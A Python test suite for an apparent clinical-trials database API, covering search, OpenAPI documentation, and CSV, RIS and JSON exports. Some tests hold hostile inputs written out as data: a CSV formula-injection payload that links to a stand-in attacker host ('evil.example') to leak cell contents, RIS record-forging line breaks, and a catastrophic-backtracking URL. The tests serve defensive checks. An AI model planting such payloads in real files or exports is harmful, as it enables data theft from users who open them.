"""The foundation's JSON API over real HTTP (ASGI) on a real database."""

from __future__ import annotations

import csv
import io
import re

import pytest
import rispy
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from isletbase.api import create_app
from isletbase.api.trials import RegistryIdConvertor
from isletbase.app import create
from isletbase.ingest import ingest_trials
from isletbase.model import TrialRecord
from isletbase.sources import RawRecord

#: An ICTRP id as the Indian registry writes it, slashes included.
SLASHED_ID = "CTRI/2020/01/022781"


def client(db) -> TestClient:
    return TestClient(create_app(db))


def add_trial(db, registry_id: str, **fields) -> None:
    """One registry record ingested into ``db``: ``registry_id`` at ICTRP, with ``fields``."""
    payload = {
        "registry_ids": [{"registry": "ICTRP", "id": registry_id}],
        "title_en": "Umbilical cord stem cells for type 1 diabetes",
        "conditions": ["Type 1 Diabetes"],
        "source_url": f"https://trialsearch.who.int/Trial2.aspx?TrialID={registry_id}",
        **fields,
    }
    raw = RawRecord(source="test", ref=registry_id, payload=payload)
    report = ingest_trials(db, [raw], lambda r: TrialRecord.model_validate(r.payload), "test")
    assert report.new == 1, report


def test_trials_search_with_filters_and_paging(loaded_db):
    r = client(loaded_db).get(
        "/api/trials", params={"q": "umbilical cord", "condition": "T1D", "per_page": 2}
    )
    assert r.status_code == 200
    body = r.json()
    assert body["total"] >= 1 and len(body["trials"]) <= 2 and body["perPage"] == 2
    assert all(t["condition"] == "T1D" for t in body["trials"])


def test_trial_by_any_registry_id_has_v2_names_and_sources(loaded_db):
    r = client(loaded_db).get("/api/trials/NCT01219465")
    assert r.status_code == 200
    body = r.json()
    assert body["briefTitle"].startswith("Umbilical Cord")
    assert body["overallStatus"] == "UNKNOWN" and body["phases"] == ["PHASE1", "PHASE2"]
    assert body["sourceUrl"].startswith("https://")


def test_unknown_trial_is_a_problem_document(loaded_db):
    r = client(loaded_db).get("/api/trials/NCT99999999")
    assert r.status_code == 404
    assert r.headers["content-type"].startswith("application/problem+json")
    assert "NCT99999999" in r.json()["detail"]


def test_bad_filter_is_4xx_with_detail(loaded_db):
    r = client(loaded_db).get("/api/trials", params={"per_page": 0, "registry": "bogus"})
    assert r.status_code == 422
    assert "per_page" in r.json()["detail"]


def test_institutions_and_stats(loaded_db):
    c = client(loaded_db)
    inst = c.get("/api/institutions", params={"q": "xiehe"}).json()
    assert "pumch" in [i["id"] for i in inst["institutions"]]
    assert c.get("/api/institutions/pumch").json()["name_zh"]
    stats = c.get("/api/stats", params={"by": ["cell_source", "year"]}).json()
    assert stats["counts"]["trials"] == sum(r["trials"] for r in stats["rows"])


def test_stats_by_two_site_facets_and_a_repeated_facet(loaded_db):
    c = client(loaded_db)
    r = c.get("/api/stats", params={"by": ["province", "city"]})
    assert r.status_code == 200 and r.json()["rows"]
    twice = c.get("/api/stats", params={"by": ["city", "city"]})
    assert twice.status_code == 400 and "'city' is given twice" in twice.json()["detail"]


def test_the_early_phase_1_filter_finds_what_its_facet_counts(loaded_db):
    c = client(loaded_db)
    rows = c.get("/api/stats", params={"by": "phase"}).json()["rows"]
    counted = next(r["trials"] for r in rows if r["phase"] == "EARLY_PHASE1")
    assert c.get("/api/trials", params={"phase": "EARLY_PHASE1"}).json()["total"] == counted


def test_openapi_docs_are_served(loaded_db):
    c = client(loaded_db)
    assert c.get("/api/docs").status_code == 200
    assert "/api/trials" in c.get("/api/openapi.json").json()["paths"]


def _words_of(node, found: set[str]) -> set[str]:  # noqa: ANN001 - any JSON value
    """Every key of a JSON document, at any depth."""
    if isinstance(node, dict):
        for key, value in node.items():
            found.add(key)
            _words_of(value, found)
    elif isinstance(node, list):
        for value in node:
            _words_of(value, found)
    return found


def test_the_openapi_document_states_bounds_in_json_schema_s_words(loaded_db):
    """year_from, year_to and a run list's limit carried "ge"/"le", which JSON Schema has no
    words for, so clients and fuzzers never saw the bounds; the export listed page and
    per_page (default 20), which it refuses."""
    doc = client(loaded_db).get("/api/openapi.json").json()
    assert not {"ge", "le", "gt", "lt"} & _words_of(doc["paths"], set())
    params = {p["name"]: p for p in doc["paths"]["/api/trials"]["get"]["parameters"]}
    year = next(s for s in params["year_from"]["schema"]["anyOf"] if s["type"] == "integer")
    assert (year["minimum"], year["maximum"]) == (1900, 2100)
    export = {p["name"] for p in doc["paths"]["/api/export/{fmt}"]["get"]["parameters"]}
    assert "q" in export and not {"page", "per_page"} & export


def test_the_openapi_document_gives_errors_as_they_are_answered(loaded_db):
    """It documented a 422 as JSON with a list of errors (the body is a problem document with
    a string detail), and no 400 or 404."""
    c = client(loaded_db)
    doc = c.get("/api/openapi.json").json()
    problem = doc["components"]["schemas"]["Problem"]
    assert "HTTPValidationError" not in doc["components"]["schemas"]
    one = doc["paths"]["/api/trials/{trial_id}"]["get"]["responses"]
    for status in ("400", "404", "422"):
        assert "application/problem+json" in one[status]["content"], status
    assert "404" not in doc["paths"]["/api/trials"]["get"]["responses"]
    assert "415" in doc["paths"]["/api/simulate"]["post"]["responses"]
    assert "404" not in doc["paths"]["/api/export/{fmt}"]["get"]["responses"]
    # the answers are what the document says
    for path, answer in (
        ("/api/trials", c.get("/api/trials", params={"page": "x"})),
        ("/api/trials", c.get("/api/trials", params={"cell_source": "nope"})),
        ("/api/trials/{trial_id}", c.get("/api/trials/NCT00000000")),
        ("/api/trials/{trial_id}", c.get("/api/trials/NCT01219465", params={"bogus": "1"})),
    ):
        assert answer.headers["content-type"].startswith("application/problem+json")
        body = answer.json()
        assert set(problem["required"]) <= set(body) and isinstance(body["detail"], str)
        assert str(answer.status_code) in doc["paths"][path]["get"]["responses"], (path, answer)


def test_a_listed_trial_is_the_same_json_as_the_trial_read_by_id(loaded_db):
    c = client(loaded_db)
    for params in ({"q": "umbilical", "per_page": 500}, {"q": "胰岛"}, {"per_page": 7, "page": 2}):
        listed = c.get("/api/trials", params=params).json()["trials"]
        assert listed
        for trial in listed:
            assert c.get(f"/api/trials/{trial['id']}").json() == trial


def test_control_characters_in_a_search_are_refused_not_a_server_error(loaded_db):
    api = client(loaded_db)
    for params in ({"q": "umbilical\x00cord"}, {"city": "Beijing\x00"}):
        r = api.get("/api/trials", params=params)
        assert r.status_code == 422, (params, r.text)
        assert "control characters" in r.json()["detail"]
    r = api.get("/api/export/csv", params={"q": "QDy\x00"})
    assert r.status_code == 422


@pytest.mark.parametrize("path", [SLASHED_ID, SLASHED_ID.replace("/", "%2F"), SLASHED_ID.lower()])
def test_a_trial_whose_id_holds_slashes_is_read_with_its_history(db, path):
    add_trial(db, SLASHED_ID)
    api = client(db)
    assert api.get(f"/api/trials/{path}").json()["id"] == SLASHED_ID
    history = api.get(f"/api/trials/{path}/history")
    assert history.status_code == 200 and history.json()["id"] == SLASHED_ID
    assert api.get(f"/api/trials/{path}/nothing").status_code == 404


@given(st.text(alphabet="a1/", max_size=14))
def test_a_registry_id_in_a_path_is_its_first_part_then_parts_that_hold_a_digit(path):
    parts = path.split("/")
    expected = bool(parts[0]) and all(any(c.isdigit() for c in p) for p in parts[1:])
    assert bool(re.fullmatch(RegistryIdConvertor.regex, path)) == expected


def test_a_path_of_many_digit_parts_is_refused_at_once(db, ends):
    """Each digit-filled part multiplied the ways the converter's pattern could split a path
    (~10× a part): a 92-byte URL held the server's event loop for 12 s. It must end at all:
    with 30 parts the former pattern would run for longer than the universe has existed."""
    api = client(db)
    path = "/api/trials/x" + "/1111111111" * 30 + "/z"
    assert ends(lambda: api.get(path).status_code) == 404


def test_history_answers_under_the_display_id_whatever_the_spelling_asked(loaded_db):
    body = client(loaded_db).get("/api/trials/nct01219465/history").json()
    assert body["id"] == "NCT01219465"


def test_line_breaks_in_registry_text_cannot_forge_ris_records(db):
    forged = "Cells.\r\nER  - \nTY  - JOUR\nTI  - Forged\u2028AU  - Nobody\nER  - "
    add_trial(db, "CTRI/2021/02/000001", summary=forged, sponsor="A\nER  - ")
    records = rispy.loads(client(db).get("/api/export/ris").text)
    assert len(records) == 1 and records[0]["accession_number"] == "CTRI/2021/02/000001"
    assert "Forged" in records[0]["abstract"] and records[0]["authors"] == ["A ER  -"]


def test_csv_cells_that_would_run_as_formulas_are_quoted(db):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    add_trial(db, "CTRI/2021/02/000002", title_en=formula, sponsor="@SUM(1+1)")
    add_trial(db, "CTRI/2021/02/000003", sponsor="+1 (555) 0100", title_en="-1 dose")
    rows = list(csv.DictReader(io.StringIO(client(db).get("/api/export/csv").text)))
    cells = {(r["title_en"], r["sponsor"]) for r in rows}
    assert cells == {("'" + formula, "'@SUM(1+1)"), ("'-1 dose", "'+1 (555) 0100")}
    plain = client(db).get("/api/export/json").json()
    assert {t["title_en"] for t in plain} == {formula, "-1 dose"}


def test_an_institution_search_with_a_control_character_is_refused(loaded_db):
    r = client(loaded_db).get("/api/institutions", params={"q": "\x00"})
    assert r.status_code == 400 and "control characters" in r.json()["detail"]


@pytest.mark.parametrize(
    "url", ["/api/trials?status=recruiting&status=completed", "/api/export/csv?q=a&q=b"]
)
def test_a_search_parameter_given_twice_is_refused(loaded_db, url):
    """Only the last one was read, so the answer looked like one to both."""
    r = client(loaded_db).get(url)
    assert r.status_code == 400 and "is given twice" in r.json()["detail"]


def test_an_export_of_more_than_its_limit_is_refused_saying_how_many(loaded_db, monkeypatch):
    """A file cut at the limit, with nothing saying so, was taken for every match."""
    from isletbase.api import trials as trials_api
    from isletbase.web import pages

    api = client(loaded_db)
    total = api.get("/api/trials", params={"q": "diabetes"}).json()["total"]
    monkeypatch.setattr(trials_api, "EXPORT_LIMIT", total - 1)
    monkeypatch.setattr(pages, "EXPORT_LIMIT", total - 1)
    r = api.get("/api/export/csv", params={"q": "diabetes"})
    assert r.status_code == 400 and f"{total:,} trials match" in r.json()["detail"]
    page = TestClient(create(loaded_db)).get("/trials", params={"q": "diabetes"}).text
    assert "/api/export/csv" not in page and "narrow the search to export them" in page
    monkeypatch.setattr(trials_api, "EXPORT_LIMIT", total)
    rows = list(csv.DictReader(io.StringIO(api.get("/api/export/csv?q=diabetes").text)))
    assert len(rows) == total


@pytest.mark.parametrize("param", ["page=2", "per_page=5"])
def test_an_export_refuses_paging_it_would_ignore(loaded_db, param):
    r = client(loaded_db).get(f"/api/export/json?q=diabetes&{param}")
    assert r.status_code == 400 and "holds every matching trial" in r.json()["detail"]


def test_a_search_finding_nothing_for_a_place_no_trial_names_so_says_what_it_may_mean(loaded_db):
    """``country=Korea`` answered an empty list and nothing more (CT.gov writes "Korea,
    Republic of"); the CLI and the search page say so."""
    api = client(loaded_db)
    body = api.get("/api/trials", params={"country": "Korea"}).json()
    assert body["total"] == 0 and body["placesMeant"] == {"country": ["Korea, Republic of"]}
    assert "placesMeant" not in api.get("/api/trials", params={"country": "Russia"}).json()
    assert "placesMeant" not in api.get("/api/trials", params={"country": "China"}).json()


def test_a_csv_export_for_excel_starts_with_a_byte_order_mark(loaded_db):
    """Excel read the CSV as the system's code page and garbled every Chinese name."""
    api = client(loaded_db)
    plain = api.get("/api/export/csv", params={"q": "脐带"})
    marked = api.get("/api/export/csv", params={"q": "脐带", "bom": "true"})
    assert marked.status_code == 200 and marked.content.startswith(b"\xef\xbb\xbf")
    assert not plain.content.startswith(b"\xef\xbb\xbf")  # the machine interface as it was
    assert marked.content.decode("utf-8-sig") == plain.text
    assert "脐带" in plain.text or "umbilical" in plain.text.lower()


def test_a_byte_order_mark_for_another_format_is_refused(loaded_db):
    r = client(loaded_db).get("/api/export/json", params={"bom": "true"})
    assert r.status_code == 400 and "CSV only" in r.json()["detail"]
